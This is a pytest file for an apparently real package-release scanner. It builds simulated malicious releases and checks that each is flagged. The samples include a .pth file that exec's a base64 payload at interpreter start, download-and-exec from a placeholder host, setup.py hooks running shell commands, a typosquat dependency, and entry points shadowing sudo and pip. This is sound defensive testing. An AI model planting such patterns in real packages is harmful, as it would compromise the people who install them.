"""What stolen releases did, each in a release of its own beside a healthy one: every kind is found."""

import base64
import itertools
import os
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path

import pytest
from artifacts.built import Built
from artifacts.sdists import sdist
from artifacts.wheels import wheel
from slipway.artifacts import outline
from slipway.comparing import differences
from slipway.manifest import Addition
from slipway.rules.difference import RULES
from slipway.rules.difference.facts import DifferenceFacts
from slipway.rules.rule import judge

LICENCE = "Permission is hereby granted to everyone.\n"
FILES: Mapping[str, str | bytes] = {
    "demo/__init__.py": "import logging\n\nlog = logging.getLogger(__name__)\n",
    "demo/core.py": "import subprocess\n\n\ndef run(words):\n    return subprocess.run(words, check=True)\n",
    "demo-1.0.dist-info/licenses/LICENSE": LICENCE,
}
ABOUT: Mapping[str, str | list[str] | None] = {
    "License-Expression": "MIT",
    "Requires-Dist": ["requests>=2", 'numpy; extra == "fast"'],
    "Provides-Extra": "fast",
}
POINTS = "[console_scripts]\ndemo = demo.core:run\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(100)
PAYLOAD = base64.b64encode(b"import os; os.system('id')" * 200).decode()

_numbers = itertools.count()


def made(version: str, changes: Mapping[str, object]) -> Iterator[Built]:
    """Yield sdist and wheel of a release; `changes` are arguments of both, by name, and files of either."""
    files = {path.replace("1.0", version): data for path, data in FILES.items()}
    files |= changes.get("files", {})  # type: ignore[arg-type]
    about = {**ABOUT, **changes.get("fields", {})}  # type: ignore[dict-item]
    dropped = changes.get("drop", ())
    yield wheel(
        {path: data for path, data in files.items() if path not in dropped},  # type: ignore[operator]
        version=version,
        fields=about,
        entry_points=str(changes.get("points", POINTS)),
        tag=str(changes.get("tag", "py3-none-any")),
    )
    beside = {"LICENSE": LICENCE, "setup.py": "from setuptools import setup\n\nsetup()\n"}
    beside |= changes.get("sources", {})  # type: ignore[arg-type]
    yield sdist({p: d for p, d in beside.items() if p not in dropped}, version=version, fields=about)  # type: ignore[operator]


def judged(tmp_path: Path, *, others: Iterable[str] = (), **changes: object) -> Addition:
    """What is found in a release with these changes, beside a healthy one that had other wheels too."""
    folder = tmp_path / str(next(_numbers))
    folder.mkdir()
    before = [
        outline.read(built.at(folder)) for built in made("1.0", {"tag": changes.get("tag", "py3-none-any")})
    ]
    now = [outline.read(built.at(folder)) for built in made("1.1", changes)]
    looked = differences.Looked()
    facts = DifferenceFacts(
        project="demo",
        version="1.1",
        earlier="1.0",
        pairs=differences.pairs(now, before, looked),
        now=tuple(now),
        before=tuple(before),
        names=(*(one.filename for one in before), *others),
    )
    addition = judge(RULES, facts, ignored={})
    assert addition.broken_rules == ()
    assert looked.unread == []
    return addition


def found(tmp_path: Path, **changes: object) -> list[str]:
    return [finding.rule for finding in judged(tmp_path, **changes).findings]


ATTACKS: Mapping[str, tuple[dict[str, object], list[str]]] = {
    "a .pth that runs at every start": (
        {"files": {"demo_init.pth": f"import base64; exec(base64.b64decode('{PAYLOAD}'))\n"}},
        ["startup-file-added", "hidden-code-added"],
    ),
    "a .pth by way of .data": (
        {"files": {"demo-1.1.data/purelib/z.pth": "import demo_run\n"}},
        ["startup-file-added"],
    ),
    "sitecustomize": (
        {"files": {"sitecustomize.py": "print()\n"}},
        ["startup-file-added", "import-name-added"],
    ),
    "a program among the data": ({"files": {"demo/data/update": ELF}}, ["program-added"]),
    "a program for Windows by its name": (
        {"files": {"demo/data/run.bat": b"@echo off\r\n"}},
        ["program-added"],
    ),
    "a compiled module in a pure package": ({"files": {"demo/_speed.so": ELF}}, ["program-added"]),
    "network code in setup.py, in the sdist alone": (
        {"sources": {"setup.py": "import urllib.request as u\nu.urlopen('https://example.org/' + 'x')\n"}},
        ["setup-does-more"],
    ),
    "a command class in setup.py that starts a shell": (
        {"sources": {"setup.py": "import os\nclass Install:\n    def run(self):\n        os.system('id')\n"}},
        ["setup-does-more"],
    ),
    "a dependency that imitates another": (
        {"fields": {"Requires-Dist": ["requests>=2", "reqeusts"]}},
        ["dependency-resembles-another", "dependency-added"],
    ),
    "a new dependency": (
        {"fields": {"Requires-Dist": ["requests>=2", "plain-helper"]}},
        ["dependency-added"],
    ),
    "an __init__ that grew": (
        {"files": {"demo/__init__.py": "X = 1\n" * 2000}},
        ["start-code-grew"],
    ),
    "code that is decoded first": (
        {
            "files": {
                "demo/core.py": "import zlib\ndef run(w):\n    text = zlib.decompress(w)\n    exec(text)\n"
            }
        },
        ["hidden-code-added"],
    ),
    "code that is decoded by another interpreter": (
        {
            "files": {
                "demo/core.py": 'import subprocess\nsubprocess.run(["-c", "exec(b64decode(\'aWQ=\'))"])\n'
            }
        },
        ["hidden-code-added", "import-does-more"],
    ),
    "code that is downloaded first": (
        {
            "files": {
                "demo/new.py": "import requests\ndef f():\n    exec(requests.get('https://x.example').text)\n"
            }
        },
        ["hidden-code-added"],
    ),
    "a long blob beside exec": (
        {"files": {"demo/blob.py": f"K = '{PAYLOAD}'\ndef f(g):\n    exec(g(K))\n"}},
        ["hidden-code-added"],
    ),
    "a file too large to be parsed": (
        {
            "files": {
                "demo/core.py": "# "
                + "x" * 600_000
                + "\nimport urllib.request\nurllib.request.urlopen('x')\n"
            }
        },
        ["import-does-more"],
    ),
    "a call on import, out of a function": (
        {
            "files": {
                "demo/__init__.py": "from subprocess import Popen as P\ndef _go():\n    P(['id'])\n_go()\n",
            }
        },
        ["import-does-more"],
    ),
    "a command that shadows a program": (
        {"points": POINTS + "sudo = demo.core:run\n"},
        ["command-shadows-program"],
    ),
    "a command out of .data that shadows a program": (
        {"files": {"demo-1.1.data/scripts/pip": "#!python\nprint()\n"}},
        ["command-shadows-program"],
    ),
    "a plugin of pytest": ({"points": POINTS + "[pytest11]\ndemo = demo.core\n"}, ["plugin-added"]),
    "a package that is another project's": (
        {"files": {"yaml/__init__.py": "def load():\n    pass\n"}},
        ["import-name-added"],
    ),
    "the licence gone": (
        {
            "drop": ("demo-1.1.dist-info/licenses/LICENSE", "LICENSE"),
            "fields": {"License-Expression": None},
        },
        ["licence-gone", "licence-gone", "licence-gone"],
    ),
    "another licence": ({"fields": {"License-Expression": "AGPL-3.0-only"}}, ["licence-changed"]),
    "Requires-Python narrowed": ({"fields": {"Requires-Python": ">=3.13"}}, ["python-range-narrowed"]),
    "an extra and a command gone": (
        {"fields": {"Provides-Extra": None, "Requires-Dist": "requests>=2"}, "points": "[x]\ny = demo\n"},
        ["entry-point-gone", "extra-gone"],
    ),
    "ten times the size": (
        {"files": {"demo/data.bin": os.urandom(200_000)}},
        ["size-changed-tenfold"],
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_kind_is_found(attack: str, tmp_path: Path) -> None:
    changes, rules = ATTACKS[attack]

    assert found(tmp_path, **changes) == rules


def test_a_platform_that_is_gone_is_found(tmp_path: Path) -> None:
    gone = ["demo-1.0-cp312-cp312-win_arm64.whl", "demo-1.0-cp312-cp312-macosx_11_0_arm64.whl"]
    linux = "cp312-cp312-manylinux_2_28_x86_64"

    assert found(tmp_path, others=gone, tag=linux) == ["platforms-gone"]
    assert found(tmp_path, tag=linux) == []


def test_a_healthy_release_has_nothing(tmp_path: Path) -> None:
    more = {
        "demo/core.py": "import subprocess\n\n\ndef run(words):\n    subprocess.run(words, check=False)\n",
        "demo/new.py": '"""A module."""\n\n\ndef helps(value):\n    return value\n',
        "demo/moved/core.py": "def nothing():\n    pass\n",
    }

    assert found(tmp_path, files=more, fields={"Requires-Dist": ["requests>=2.32"]}) == []


def test_a_file_that_moves_keeps_what_it_could_do(tmp_path: Path) -> None:
    moved = {"demo/commands.py": FILES["demo/core.py"]}

    assert found(tmp_path, files=moved, drop=("demo/core.py",)) == []


def test_all_at_once_come_with_what_is_dangerous_first(tmp_path: Path) -> None:
    everything: dict[str, object] = {"files": {}, "fields": {}, "points": POINTS}
    for name in (
        "a .pth that runs at every start",
        "a program among the data",
        "a package that is another project's",
    ):
        everything["files"] |= ATTACKS[name][0]["files"]  # type: ignore[operator]
    everything["fields"] = {"Requires-Dist": ["requests>=2", "plain-helper"], "Requires-Python": ">=3.13"}

    severities = [finding.severity.rank for finding in judged(tmp_path, **everything).findings]
    rules = [finding.rule for finding in judged(tmp_path, **everything).findings]

    assert severities == sorted(severities)
    assert rules[0] == "startup-file-added"
    assert rules[-2:] == ["dependency-added", "python-range-narrowed"]
